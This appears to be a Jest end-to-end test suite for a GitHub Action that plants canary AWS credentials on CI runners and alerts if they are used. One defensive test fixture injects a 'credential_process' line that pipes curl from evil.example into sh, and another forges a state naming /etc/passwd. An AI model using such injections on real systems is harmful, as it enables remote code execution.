// plant-runner-canaries and its post step, end to end: dist/index.js and
// then dist/post/index.js, started as the runner starts them, with HOME in a
// temporary folder. The post step gets what the runner gives it: the same
// inputs and environment as the step, plus STATE_<name> for everything the
// step wrote to GITHUB_STATE.
import { afterEach, describe, expect, it } from '@jest/globals'
import { chmod, mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { expectFailure, expectNoSecretsVisible, expectSuccess, postBundle, useEmulator, visibleText, type ActionRun } from './harness.js'

const AUTH_TOKEN = 'e2e-runner-canary-auth-token-5d1f0a2b7c'
const { emulator, action } = useEmulator(AUTH_TOKEN)

const RUN_ENV = { GITHUB_WORKFLOW: 'ci', GITHUB_JOB: 'build', GITHUB_RUN_ATTEMPT: '2' }
const DEFAULT_MEMO = 'octo-org/octo-repo ci/build run 4242 attempt 2 (0123456): runner canary'

/** Folders and runs to remove after each test, whatever happened in it. */
const leftovers: string[] = []
afterEach(async () => {
  await Promise.all(leftovers.splice(0).map((path) => rm(path, { recursive: true, force: true })))
})

function forget(run: ActionRun): ActionRun {
  leftovers.push(dirname(run.runnerTemp), run.workspace)
  return run
}

/** A fresh HOME for one test. */
async function home(): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'canary-home-'))
  leftovers.push(folder)
  return folder
}

interface Planted {
  home: string
  inputs: Record<string, string>
  env: Record<string, string>
  run: ActionRun
}

async function plant(homeFolder: string, inputs: Record<string, string> = {}, env: Record<string, string> = {}): Promise<Planted> {
  const fullEnv = { ...RUN_ENV, HOME: homeFolder, ...env }
  const run = forget(await action('plant-runner-canaries', inputs, { env: fullEnv }))
  return { home: homeFolder, inputs, env: fullEnv, run }
}

/** The post step, as the runner starts it after the step `planted`. */
async function post(planted: { inputs: Record<string, string>; env: Record<string, string>; run: ActionRun }, operation = 'plant-runner-canaries'): Promise<ActionRun> {
  return forget(await action(operation, planted.inputs, { env: planted.env, state: planted.run.state, bundle: postBundle }))
}

const mode = async (path: string): Promise<number> => (await stat(path)).mode & 0o777

function tokenOf(run: ActionRun) {
  const token = emulator.getToken(run.outputs.canarytoken as string)
  expect(token).toBeDefined()
  return token
}

const OTHER_CREDENTIALS = '# shared build credentials\n[prod]\naws_access_key_id = AKIAREALREALREAL0001\naws_secret_access_key = realsecret/0001\n\n[ staging ] ; old\nregion=eu-west-1'
const OTHER_CONFIG = '[default]\nregion = eu-central-1\noutput = json\n\n[profile prod]\nregion = us-west-2\n'

describe('plant-runner-canaries', () => {
  it('writes the aws-id token as the default profile, owner-only, in a fresh ~/.aws, with a memo naming the run', async () => {
    const planted = await plant(await home())
    expectSuccess(planted.run)
    const token = tokenOf(planted.run)
    expect(token.kind).toBe('aws-id')
    expect(token.memo).toBe(DEFAULT_MEMO)
    const aws = join(planted.home, '.aws')
    expect(await mode(aws)).toBe(0o700)
    expect(await mode(join(aws, 'credentials'))).toBe(0o600)
    expect(await mode(join(aws, 'config'))).toBe(0o600)
    expect(await readFile(join(aws, 'credentials'), 'utf8')).toBe(
      `[default]\naws_access_key_id = ${token.access_key_id}\naws_secret_access_key = ${token.secret_access_key}\n`
    )
    expect(await readFile(join(aws, 'config'), 'utf8')).toBe('[default]\nregion = us-east-1\n')
    expect(planted.run.outputs).toMatchObject({
      canarytoken: token.canarytoken,
      memo: DEFAULT_MEMO,
      'aws-profile': 'default',
      'credentials-file': join(aws, 'credentials'),
      'access-key-id': token.access_key_id
    })
    expect(planted.run.exported).toEqual({})
    expect(JSON.parse(planted.run.state['runner-canary'] as string)).toMatchObject({ canarytoken: token.canarytoken, profile: 'default', check: true, remove: true })
    expect(planted.run.state['runner-canary']).not.toContain(token.access_key_id)
    expect(planted.run.state['runner-canary']).not.toContain(token.secret_access_key)
    expect(planted.run.summary).toContain('Runner canary planted')
  })

  it('masks both keys before anything else is printed, and never shows them (debug on)', async () => {
    const planted = await plant(await home(), {}, { RUNNER_DEBUG: '1' })
    expectSuccess(planted.run)
    const token = tokenOf(planted.run)
    const lines = planted.run.stdout.split('\n')
    const maskAt = (value: string) => lines.indexOf(`::add-mask::${value}`)
    const keyMasks = [maskAt(token.access_key_id), maskAt(token.secret_access_key)]
    expect(Math.min(...keyMasks)).toBeGreaterThan(-1)
    // Before the masks: other masks and the transport's request lines only.
    for (const line of lines.slice(0, Math.max(...keyMasks))) expect(line).toMatch(/^::(add-mask|debug)::/)
    expectNoSecretsVisible(planted.run, [token.access_key_id, token.secret_access_key, AUTH_TOKEN])
  })

  it('adds a named profile after the existing ones, leaving every other byte and the files modes as they were', async () => {
    const folder = await home()
    const aws = join(folder, '.aws')
    await mkdir(aws, { mode: 0o755 })
    await writeFile(join(aws, 'credentials'), OTHER_CREDENTIALS, { mode: 0o640 })
    await writeFile(join(aws, 'config'), OTHER_CONFIG, { mode: 0o644 })
    await chmod(join(aws, 'credentials'), 0o640)
    await chmod(join(aws, 'config'), 0o644)
    const planted = await plant(folder, { 'aws-profile': 'ci-canary', 'aws-region': 'eu-west-2' })
    expectSuccess(planted.run)
    const token = tokenOf(planted.run)
    expect(await readFile(join(aws, 'credentials'), 'utf8')).toBe(
      `${OTHER_CREDENTIALS}\n\n[ci-canary]\naws_access_key_id = ${token.access_key_id}\naws_secret_access_key = ${token.secret_access_key}\n`
    )
    expect(await readFile(join(aws, 'config'), 'utf8')).toBe(`${OTHER_CONFIG}\n[profile ci-canary]\nregion = eu-west-2\n`)
    expect([await mode(aws), await mode(join(aws, 'credentials')), await mode(join(aws, 'config'))]).toEqual([0o755, 0o640, 0o644])
  })

  it('writes where AWS_SHARED_CREDENTIALS_FILE and AWS_CONFIG_FILE point, creating missing folders owner-only', async () => {
    const folder = await home()
    const credentials = join(folder, 'deep', 'er', 'creds')
    const config = join(folder, 'cfg')
    const planted = await plant(folder, {}, { AWS_SHARED_CREDENTIALS_FILE: credentials, AWS_CONFIG_FILE: config })
    expectSuccess(planted.run)
    expect(planted.run.outputs['credentials-file']).toBe(credentials)
    expect([await mode(join(folder, 'deep')), await mode(join(folder, 'deep', 'er')), await mode(credentials), await mode(config)]).toEqual([
      0o700, 0o700, 0o600, 0o600
    ])
    await expect(stat(join(folder, '.aws'))).rejects.toThrow(/ENOENT/)
    // ... and the post step takes it all away again.
    expectSuccess(await post(planted))
    await expect(stat(join(folder, 'deep'))).rejects.toThrow(/ENOENT/)
    await expect(stat(config)).rejects.toThrow(/ENOENT/)
  })

  it.each([
    ['credentials', '[ci-canary]\naws_access_key_id = AKIAREAL\n', ''],
    ['config', '', '[profile ci-canary]\nregion = us-east-1\n'],
    ['config (bare name)', '', '[ci-canary]\nregion = us-east-1\n']
  ])('refuses a profile that already exists in %s, with no request and no byte changed', async (_where, credentials, config) => {
    const folder = await home()
    const aws = join(folder, '.aws')
    await mkdir(aws)
    await writeFile(join(aws, 'credentials'), `${OTHER_CREDENTIALS}\n${credentials}`)
    await writeFile(join(aws, 'config'), `${OTHER_CONFIG}${config}`)
    const planted = await plant(folder, { 'aws-profile': 'ci-canary' })
    expectFailure(planted.run, /AWS profile 'ci-canary' already exists in .*\.aws\/(credentials|config) .*never overwrites.*'aws-profile'/)
    expect(emulator.requests).toHaveLength(0)
    expect(await readFile(join(aws, 'credentials'), 'utf8')).toBe(`${OTHER_CREDENTIALS}\n${credentials}`)
    expect(await readFile(join(aws, 'config'), 'utf8')).toBe(`${OTHER_CONFIG}${config}`)
    expect(planted.run.state).toEqual({})
  })

  it('refuses the default profile when ~/.aws/credentials has one: a real credential is never overwritten', async () => {
    const folder = await home()
    await mkdir(join(folder, '.aws'))
    await writeFile(join(folder, '.aws', 'credentials'), '[default]\naws_access_key_id = AKIAREAL\n')
    const planted = await plant(folder)
    expectFailure(planted.run, /AWS profile 'default' already exists/)
    expect(emulator.requests).toHaveLength(0)
  })

  it.each([
    [{ 'aws-region': 'US-EAST-1' }, /Input 'aws-region' must be an AWS region.*Did you mean 'us-east-1'\?/],
    [{ 'aws-region': 'eu-west-1b' }, /availability zone; its region is 'eu-west-1'/],
    [{ 'aws-profile': '[profile ci]' }, /Input 'aws-profile' must be a profile name.*Did you mean 'ci'\?/],
    [{ 'on-console-error': 'warning' }, /Input 'on-console-error' must be warn or fail; 'warning' is not\. Did you mean 'warn'\?/],
    [{ 'check-on-exit': 'nope' }, /Input 'check-on-exit' must be true or false/],
    [{ memo: '{repository} {branch}' }, /Input 'memo' uses the unknown placeholder \{branch\}/]
  ])('refuses bad inputs before any request: %j', async (inputs, message) => {
    const planted = await plant(await home(), inputs)
    expectFailure(planted.run, message)
    expect(emulator.requests).toHaveLength(0)
  })

  it('on a pull request from a fork (no secrets) warns and plants nothing, unless on-console-error: fail', async () => {
    const folder = await home()
    emulator.clearRequests()
    const fork = await plant(folder, { 'auth-token': '' }, { GITHUB_EVENT_NAME: 'pull_request' })
    expectSuccess(fork.run)
    expect(fork.run.warnings).toEqual([expect.stringMatching(/^plant-runner-canaries did nothing: 'auth-token' is empty, as GitHub leaves secrets out of pull_request runs from forks/)])
    expect(fork.run.state).toEqual({})
    expect(emulator.requests).toHaveLength(0)
    await expect(stat(join(folder, '.aws'))).rejects.toThrow()
    // Asked to fail, or on a push (where an empty secret is a mistake): one error, before any request.
    expectFailure((await plant(folder, { 'auth-token': '', 'on-console-error': 'fail' }, { GITHUB_EVENT_NAME: 'pull_request' })).run, /needs input 'auth-token'/)
    expectFailure((await plant(folder, { 'auth-token': '' }, { GITHUB_EVENT_NAME: 'push' })).run, /needs input 'auth-token'/)
    expect(emulator.requests).toHaveLength(0)
  })

  it('refuses AWS file paths it cannot use, before any request', async () => {
    const folder = await home()
    await writeFile(join(folder, 'a-file'), 'not a folder')
    const planted = await plant(folder, {}, { AWS_SHARED_CREDENTIALS_FILE: join(folder, 'a-file', 'credentials') })
    expectFailure(planted.run, /The AWS credentials file .*a-file\/credentials cannot be read \(ENOTDIR\)/)
    const same = await plant(folder, {}, { AWS_SHARED_CREDENTIALS_FILE: join(folder, 'x'), AWS_CONFIG_FILE: join(folder, 'x') })
    expectFailure(same.run, /AWS_SHARED_CREDENTIALS_FILE and AWS_CONFIG_FILE both name/)
    expect(emulator.requests).toHaveLength(0)
  })

  it.each([
    ['on a Canarytokens server', { 'check-auth-token': 'e2e-check-key-0123456789' }, "Input 'check-auth-token' is a Console API key; on a Canarytokens server"],
    ['with check-on-exit: false', { 'check-auth-token': 'e2e-check-key-0123456789', 'check-on-exit': 'false' }, "Input 'check-auth-token' is the key of the post step's check, which 'check-on-exit: false' turns off"],
    ['too short to be a key', { 'check-auth-token': 'short' }, "Input 'check-auth-token' is 5 characters long"]
  ])('refuses check-auth-token %s, before any request', async (what, inputs, message) => {
    const server: Record<string, string> =
      what === 'on a Canarytokens server' ? { console: '', 'auth-token': '', 'canarytokens-server': 'https://canarytokens.example', 'alert-email': 'security@example.com' } : {}
    const planted = await plant(await home(), { ...(inputs as Record<string, string>), ...server })
    expectFailure(planted.run, message)
    expect(emulator.requests).toHaveLength(0)
  })

  it('says which variable the default memo lacks outside a workflow run', async () => {
    const planted = await plant(await home(), {}, { GITHUB_WORKFLOW: '' })
    expectFailure(planted.run, /The default memo .* \(set 'memo' to choose your own\) uses \{workflow\}.*GITHUB_WORKFLOW is not set/)
    expect(emulator.requests).toHaveLength(0)
  })

  it('warns and succeeds without planting when the Console is down (on-console-error: warn, the default)', async () => {
    emulator.injectFault({ path: /^\/api\/v1\//, status: 503, times: 10 })
    const planted = await plant(await home(), { retries: '1' })
    expectSuccess(planted.run)
    expect(planted.run.warnings).toHaveLength(1)
    expect(planted.run.warnings[0]).toMatch(/planted no runner canary: .*503.*on-console-error: warn/)
    // What was tried, and where: the warning names the call and the Console it went to.
    expect(planted.run.warnings[0]).toMatch(/HTTP 503: Service Unavailable.* \((GET|POST) \/api\/v1\/[^ ]+ at http:\/\/127\.0\.0\.1:\d+\)\. The job goes on/)
    await expect(stat(join(planted.home, '.aws'))).rejects.toThrow(/ENOENT/)
    expect(planted.run.state).toEqual({})
    expect(planted.run.outputs.canarytoken).toBeUndefined()
    // Nothing was planted, so the post step has nothing to do.
    const after = await post(planted)
    expect([after.exitCode, after.stdout, after.stderr]).toEqual([0, '', ''])
  })

  it('writes no line of a hostile answer to the AWS files: keys that are not one line of visible characters plant nothing', async () => {
    // A compromised Console (or a TLS-inspecting proxy) answers the create with a secret key that carries a profile of its own.
    const { canarytoken } = emulator.addToken({ kind: 'aws-id', memo: 'template' })
    const injected = 'abcdefghijklmnopqrstuvwxyz0123456789ABCD\n[prod]\ncredential_process = /bin/sh -c "curl https://evil.example | sh"'
    // Without its renders, so the keys are read from the fields.
    const hostile: Record<string, unknown> = { ...emulator.getToken(canarytoken), secret_access_key: injected }
    delete hostile.renders
    emulator.injectFault({ method: 'POST', path: '/api/v1/canarytoken/create', body: { result: 'success', canarytoken: hostile } })
    const planted = await plant(await home(), { 'on-console-error': 'warn' })
    expectSuccess(planted.run)
    expect(planted.run.warnings).toHaveLength(1)
    expect(planted.run.warnings[0]).toMatch(/planted no runner canary: .*holds AWS keys that are not one line of visible characters/)
    await expect(stat(join(planted.home, '.aws'))).rejects.toThrow(/ENOENT/)
    expect(planted.run.state).toEqual({})
    expect(visibleText(planted.run)).not.toContain('credential_process')
  })

  it('warns when the Console refuses the auth token, too', async () => {
    const run = forget(
      await action('plant-runner-canaries', { 'auth-token': 'not-the-right-token-123456' }, { env: { ...RUN_ENV, HOME: await home() } })
    )
    expectSuccess(run)
    expect(run.warnings[0]).toMatch(/planted no runner canary: .*Unauthorized/)
  })

  it('fails the step when the Console is down and on-console-error is fail', async () => {
    emulator.injectFault({ path: /^\/api\/v1\//, status: 503, times: 10 })
    const planted = await plant(await home(), { retries: '0', 'on-console-error': 'fail' })
    expectFailure(planted.run, /^plant-runner-canaries failed: .*503/)
    await expect(stat(join(planted.home, '.aws'))).rejects.toThrow(/ENOENT/)
    expect(planted.run.state).toEqual({})
  })

  it('exports the keys to later steps only with export-env: true', async () => {
    const planted = await plant(await home(), { 'export-env': 'true', 'aws-region': 'ap-southeast-2' })
    expectSuccess(planted.run)
    const token = tokenOf(planted.run)
    expect(planted.run.exported).toEqual({
      AWS_ACCESS_KEY_ID: token.access_key_id,
      AWS_SECRET_ACCESS_KEY: token.secret_access_key,
      AWS_DEFAULT_REGION: 'ap-southeast-2'
    })
    expectNoSecretsVisible(planted.run, [token.access_key_id, token.secret_access_key])
  })

  it('refuses export-env: true before any request when the job already holds AWS credentials, naming them, never their values', async () => {
    const realSession = 'IQoJb3JpZ2luX2VjEXAMPLEsessionTOKENvalue0123456789'
    const planted = await plant(
      await home(),
      { 'export-env': 'true' },
      { AWS_ACCESS_KEY_ID: 'ASIAEXAMPLEREALKEY01', AWS_SECRET_ACCESS_KEY: 'real/secret/EXAMPLEKEY0123456789abcdefgh', AWS_SESSION_TOKEN: realSession }
    )
    expectFailure(planted.run, /^Input 'export-env' is true, but the job's environment already holds AWS credentials \(AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY, AWS_SESSION_TOKEN\)/)
    expect(emulator.requests).toHaveLength(0)
    expect(planted.run.exported).toEqual({})
    expect(planted.run.state).toEqual({})
    expect(visibleText(planted.run)).not.toContain(realSession)
    await expect(stat(join(planted.home, '.aws'))).rejects.toThrow(/ENOENT/)
  })

  it('reuses the enabled token with the same memo with reuse: true, never a disabled one', async () => {
    const inputs = { memo: '{repository} {workflow}: runner canary', reuse: 'true' }
    const retired = emulator.addToken({ kind: 'aws-id', memo: 'octo-org/octo-repo ci: runner canary', enabled: false, created: '1000.000000' })
    const first = await plant(await home(), inputs)
    expectSuccess(first.run)
    expect(first.run.outputs).toMatchObject({ reused: 'false' })
    expect(first.run.outputs.canarytoken).not.toBe(retired.canarytoken)
    const second = await plant(await home(), inputs)
    expectSuccess(second.run)
    expect(second.run.outputs).toMatchObject({ reused: 'true', canarytoken: first.run.outputs.canarytoken })
    const token = tokenOf(second.run)
    expect(await readFile(join(second.home, '.aws', 'credentials'), 'utf8')).toContain(`aws_access_key_id = ${token.access_key_id}\n`)
  })
})

describe('the post step', () => {
  it('after an untouched canary: checks it, removes the profile and the files and folder it created, leaves the token enabled', async () => {
    const planted = await plant(await home())
    expectSuccess(planted.run)
    emulator.clearRequests()
    const after = await post(planted)
    expectSuccess(after)
    expect(emulator.requests.map((request) => `${request.method} ${request.path}`)).toEqual(['GET /api/v1/canarytoken/fetch'])
    expect(after.stdout).toMatch(/was not triggered during this job/)
    await expect(stat(join(planted.home, '.aws'))).rejects.toThrow(/ENOENT/)
    expect(tokenOf(planted.run).enabled).toBe(true)
    expect(after.summary).toBe('')
  })

  it('restores existing files byte for byte, modes included', async () => {
    const folder = await home()
    const aws = join(folder, '.aws')
    await mkdir(aws)
    await writeFile(join(aws, 'credentials'), OTHER_CREDENTIALS)
    await writeFile(join(aws, 'config'), OTHER_CONFIG)
    await chmod(join(aws, 'credentials'), 0o640)
    const planted = await plant(folder, { 'aws-profile': 'ci-canary' })
    expectSuccess(planted.run)
    expectSuccess(await post(planted))
    expect(await readFile(join(aws, 'credentials'), 'utf8')).toBe(OTHER_CREDENTIALS)
    expect(await readFile(join(aws, 'config'), 'utf8')).toBe(OTHER_CONFIG)
    expect(await mode(join(aws, 'credentials'))).toBe(0o640)
  })

  it('cuts only its own profile when a later step changed the file, and keeps a file that is no longer only its own', async () => {
    const planted = await plant(await home())
    expectSuccess(planted.run)
    const credentials = join(planted.home, '.aws', 'credentials')
    const later = '[later]\naws_access_key_id = AKIALATER\n'
    await writeFile(credentials, `${await readFile(credentials, 'utf8')}${later}`)
    const after = await post(planted)
    expectSuccess(after)
    expect(await readFile(credentials, 'utf8')).toBe(later)
    expect(after.stdout).toMatch(/changed during the job; only the profile's section was cut/)
    await expect(stat(join(planted.home, '.aws', 'config'))).rejects.toThrow(/ENOENT/)
  })

  it('fails the job when the canary was triggered during it, names token and memo, writes a summary, still removes the profile', async () => {
    // Debug logging on, in the step and so in its post step: still no key in sight.
    const planted = await plant(await home(), {}, { RUNNER_DEBUG: '1' })
    expectSuccess(planted.run)
    const token = tokenOf(planted.run)
    // An alert from before the job (a clock an hour back) is not this job's; the one during it is named.
    emulator.addIncident(token.canarytoken, { time: Date.now() - 3_600_000, src_host: '192.0.2.200', event_name: 'ListUsers' })
    const during = Date.now()
    emulator.addIncident(token.canarytoken, { time: during, src_host: '203.0.113.66', event_name: 'GetCallerIdentity', user_agent: 'Boto3/1.34.0 md/Botocore#1.34.0 <b>x</b>' })
    emulator.clearRequests()
    const after = await post(planted)
    const time = new Date(Math.floor(during / 1000) * 1000).toISOString()
    expectFailure(
      after,
      new RegExp(
        `^Runner canary ${token.canarytoken} was triggered 2 times during this job: the AWS credentials planted in this job \\(profile 'default'\\) were used\\. ` +
          `The incidents show: ${time.replace(/\./g, '\\.')} from 203\\.0\\.113\\.66: GetCallerIdentity \\(user agent Boto3/1\\.34\\.0 md/Botocore#1\\.34\\.0 <b>x</b>\\)\\. ` +
          `Treat this run as compromised.*Memo: ${DEFAULT_MEMO.replace(/[()]/g, '\\$&')}$`
      )
    )
    expect(after.errors[0]).not.toContain('192.0.2.200')
    expect(after.summary).toContain('Runner canary triggered: treat this run as compromised')
    expect(after.summary).toContain(token.canarytoken)
    for (const cell of [time, '203.0.113.66', 'GetCallerIdentity', 'Boto3/1.34.0 md/Botocore#1.34.0 &#60;b&#62;x&#60;/b&#62;']) expect(after.summary).toContain(`<td>${cell}</td>`)
    await expect(stat(join(planted.home, '.aws'))).rejects.toThrow(/ENOENT/)
    // The token is only read, never disabled or deleted: stolen copies must still alert.
    expect(emulator.requests.every((request) => request.method === 'GET')).toBe(true)
    expect(token.enabled).toBe(true)
    expectNoSecretsVisible(after, [token.access_key_id, token.secret_access_key, AUTH_TOKEN])
  })

  it("hides the planted secret key whole in the failure, even where the attacker's user agent is cut short across it", async () => {
    const planted = await plant(await home())
    expectSuccess(planted.run)
    const token = tokenOf(planted.run)
    // Whoever stole the keys writes the secret key into the user agent, so that the cut at 200 characters falls inside it.
    emulator.addIncident(token.canarytoken, { time: Date.now(), src_host: '203.0.113.67', event_name: 'GetCallerIdentity', user_agent: `${'u'.repeat(185)}${token.secret_access_key}` })
    const after = await post(planted)
    expectFailure(after, /user agent u{185}\*\*\*\)/)
    const text = visibleText(after)
    for (let at = 0; at + 8 <= token.secret_access_key.length; at++) expect(text).not.toContain(token.secret_access_key.slice(at, at + 8))
  })

  it('counts only alerts raised during this job for a reused token', async () => {
    const inputs = { memo: '{repository}: runner canary', reuse: 'true' }
    const earlier = emulator.addToken({ kind: 'aws-id', memo: 'octo-org/octo-repo: runner canary' })
    emulator.addIncident(earlier.canarytoken)
    const planted = await plant(await home(), inputs)
    expect(planted.run.outputs.canarytoken).toBe(earlier.canarytoken)
    expectSuccess(await post(planted))
    const again = await plant(await home(), inputs)
    emulator.addIncident(earlier.canarytoken)
    expectFailure(await post(again), /was triggered 1 time during this job/)
  })

  it.each([
    ['deleted', async (id: string) => expectSuccess(forget(await action('delete-canarytoken', { canarytoken: id }))), /was deleted from the Console during this job, so nothing can tell whether/],
    ['disabled', async (id: string) => expectSuccess(forget(await action('disable-canarytoken', { canarytoken: id }))), /was disabled during this job; it was not triggered before that, but a disabled token raises no alert/]
  ])('fails the job when the canary was %s during it, saying what happened and not that the keys were used', async (what, change, message) => {
    const planted = await plant(await home())
    expectSuccess(planted.run)
    await change(planted.run.outputs.canarytoken as string)
    const after = await post(planted)
    expectFailure(after, message)
    expect(after.errors[0]).toMatch(/treat this run as suspect until you know who and why\. Memo: /)
    expect(after.errors[0]).not.toMatch(/were used\./)
    expect(after.summary).toContain(`Runner canary ${what} during the job: it can no longer vouch for this run`)
    expect(after.summary).not.toContain('were used while it ran')
  })

  describe('with a Flock canarytoken-deploy key, which can only create and download', () => {
    function deployAndReadKeys() {
      const flockId = emulator.addFlock('Runner canaries')
      return {
        flockId,
        deploy: emulator.addApiKey({ type: 'canarytoken-deploy', flock_id: flockId, note: 'runner canaries' }).auth_token,
        reader: emulator.addApiKey({ type: 'read-only', flock_id: flockId, note: 'runner canary checks' }).auth_token
      }
    }

    it('plants with it, checks with the read-only key in check-auth-token, and fails the job when the canary fired', async () => {
      const keys = deployAndReadKeys()
      const planted = await plant(await home(), { 'auth-token': keys.deploy, 'flock-id': keys.flockId, 'check-auth-token': keys.reader })
      expectSuccess(planted.run)
      const token = tokenOf(planted.run)
      expect(token.flock_id).toBe(keys.flockId)
      expect(emulator.requests.map((request) => [request.path, request.authHeader])).toEqual([['/api/v1/canarytoken/create', keys.deploy]])
      emulator.addIncident(token.canarytoken, { time: Date.now(), src_host: '203.0.113.9', event_name: 'GetCallerIdentity' })
      emulator.clearRequests()
      const after = await post(planted)
      expectFailure(after, new RegExp(`^Runner canary ${token.canarytoken} was triggered 1 time during this job: .* The incidents show: .* from 203\\.0\\.113\\.9: GetCallerIdentity`))
      // The fetch and the incidents go with the check key only.
      expect(emulator.requests.length).toBeGreaterThanOrEqual(2)
      expect(emulator.requests.every((request) => request.authHeader === keys.reader && request.method === 'GET')).toBe(true)
      expectNoSecretsVisible(after, [keys.deploy, keys.reader, token.secret_access_key])
      expectNoSecretsVisible(planted.run, [keys.deploy, keys.reader, token.secret_access_key])
    })

    it('masks check-auth-token first, in the step and in the post step, with debug on', async () => {
      const keys = deployAndReadKeys()
      const planted = await plant(await home(), { 'auth-token': keys.deploy, 'flock-id': keys.flockId, 'check-auth-token': keys.reader }, { RUNNER_DEBUG: '1' })
      expectSuccess(planted.run)
      const after = await post(planted)
      expectSuccess(after)
      for (const run of [planted.run, after]) {
        const lines = run.stdout.split('\n')
        const masked = lines.indexOf(`::add-mask::${keys.reader}`)
        expect(masked).toBeGreaterThanOrEqual(0)
        // Nothing but other masks before it.
        for (const line of lines.slice(0, masked)) expect(line).toMatch(/^::add-mask::/)
        expectNoSecretsVisible(run, [keys.deploy, keys.reader])
      }
    })

    it('alone, it cannot read the token back: the step warns at once naming check-auth-token, and the post step only removes the profile', async () => {
      const keys = deployAndReadKeys()
      const planted = await plant(await home(), { 'auth-token': keys.deploy, 'flock-id': keys.flockId, retries: '0' })
      expectSuccess(planted.run)
      expect(planted.run.warnings).toEqual([
        expect.stringMatching(
          /^Runner canary \w+ is planted, but 'auth-token' cannot read it back \(HTTP 403: .*This API key can only deploy Canarytokens.*\(GET \/api\/v1\/canarytoken\/fetch at http:\/\/127\.0\.0\.1:\d+\)\), so the post step will not check it\. If 'auth-token' is a Flock canarytoken-deploy key, it can only create and download: set 'check-auth-token' to a Flock read-only key for the same flock\. Its alerts still come from the Console\.$/
        )
      ])
      expect(planted.run.summary).toContain('The post step does not check the token: &#39;auth-token&#39; cannot read it back')
      emulator.clearRequests()
      const after = await post(planted)
      expectSuccess(after)
      expect(after.warnings).toEqual([])
      expect(emulator.requests).toHaveLength(0)
      await expect(stat(join(planted.home, '.aws'))).rejects.toThrow(/ENOENT/)
      expectNoSecretsVisible(planted.run, [keys.deploy])
    })

    it('a Console that answers a deploy key\'s read with "not found" (the other reading) never makes a job report its canary deleted', async () => {
      const keys = deployAndReadKeys()
      emulator.injectFault({ path: '/api/v1/canarytoken/fetch', status: 400, body: { result: 'error', message: 'Could not find the Canarytoken' }, times: 5 })
      const planted = await plant(await home(), { 'auth-token': keys.deploy, 'flock-id': keys.flockId, retries: '0' })
      expectSuccess(planted.run)
      expect(planted.run.warnings[0]).toMatch(/cannot read it back \(HTTP 400: Could not find the Canarytoken .*\), so the post step will not check it/)
      const after = await post(planted)
      expectSuccess(after)
      expect(after.errors).toEqual([])
    })

    it('with a check key given, the step does not read the token back: the post step does, with that key', async () => {
      const keys = deployAndReadKeys()
      const planted = await plant(await home(), { 'auth-token': keys.deploy, 'flock-id': keys.flockId, 'check-auth-token': keys.reader })
      expectSuccess(planted.run)
      expect(planted.run.warnings).toEqual([])
      expect(emulator.requests.map((request) => request.path)).toEqual(['/api/v1/canarytoken/create'])
    })

    it('a check key that cannot read the token is named as the one to check', async () => {
      const keys = deployAndReadKeys()
      const planted = await plant(await home(), { 'auth-token': keys.deploy, 'flock-id': keys.flockId, 'check-auth-token': keys.deploy, retries: '0' })
      expectSuccess(planted.run)
      const after = await post(planted)
      expectSuccess(after)
      expect(after.warnings[0]).toMatch(/HTTP 403: the Console rejected the auth token \(This API key can only deploy Canarytokens\)\. Check 'check-auth-token', that the key may do this.* The check needs a key that can read this token and its incidents, such as a Flock read-only key/)
    })
  })

  it('warns, and still removes the profile, when the Console cannot be reached for the check', async () => {
    const planted = await plant(await home(), { retries: '0' })
    expectSuccess(planted.run)
    emulator.injectFault({ path: '/api/v1/canarytoken/fetch', status: 503 })
    const after = await post(planted)
    expectSuccess(after)
    expect(after.warnings[0]).toMatch(/Could not check runner canary .*503/)
    expect(after.warnings[0]).toMatch(/: HTTP 503: Service Unavailable \(GET \/api\/v1\/canarytoken\/fetch at http:\/\/127\.0\.0\.1:\d+\)\. Its alerts still come from the Console\./)
    await expect(stat(join(planted.home, '.aws'))).rejects.toThrow(/ENOENT/)
  })

  it('with check-on-exit: false sends nothing and only removes; with keep-credentials: true only checks', async () => {
    const unchecked = await plant(await home(), { 'check-on-exit': 'false' })
    expectSuccess(unchecked.run)
    emulator.clearRequests()
    expectSuccess(await post(unchecked))
    expect(emulator.requests).toHaveLength(0)
    await expect(stat(join(unchecked.home, '.aws'))).rejects.toThrow(/ENOENT/)

    const kept = await plant(await home(), { 'keep-credentials': 'true' })
    expectSuccess(kept.run)
    const before = await readFile(join(kept.home, '.aws', 'credentials'), 'utf8')
    emulator.clearRequests()
    expectSuccess(await post(kept))
    expect(emulator.requests).toHaveLength(1)
    expect(await readFile(join(kept.home, '.aws', 'credentials'), 'utf8')).toBe(before)

    const neither = await plant(await home(), { 'check-on-exit': 'false', 'keep-credentials': 'true' })
    expectSuccess(neither.run)
    expect(neither.run.state).toEqual({})
  })

  it.each(['create-canarytoken', 'fetch-canarytoken', 'list-canarytokens'])('after %s: no request, no output, no file', async (operation) => {
    const folder = await home()
    const existing = emulator.addToken({ kind: 'dns', memo: 'existing' })
    const inputs: Record<string, string> = { kind: 'dns', memo: 'post test', canarytoken: existing.canarytoken }
    const env = { ...RUN_ENV, HOME: folder }
    const step = forget(await action(operation, operation === 'list-canarytokens' ? { all: 'true' } : inputs, { env }))
    expect(step.state).toEqual({})
    emulator.clearRequests()
    const after = await post({ inputs, env, run: step }, operation)
    expect([after.exitCode, after.stdout, after.stderr, after.summary]).toEqual([0, '', '', ''])
    expect(emulator.requests).toHaveLength(0)
    await expect(stat(join(folder, '.aws'))).rejects.toThrow(/ENOENT/)
  })

  it('refuses a state it did not write, touching nothing', async () => {
    const folder = await home()
    const after = forget(
      await action('plant-runner-canaries', {}, { env: { ...RUN_ENV, HOME: folder }, state: { 'runner-canary': '{"version":1,"files":"/etc/passwd"}' }, bundle: postBundle })
    )
    expectFailure(after, /state the main step saved \(runner-canary\) is not one this version of the action wrote/)
    expect(emulator.requests).toHaveLength(0)
    expect(visibleText(after)).not.toContain(AUTH_TOKEN)
  })
})
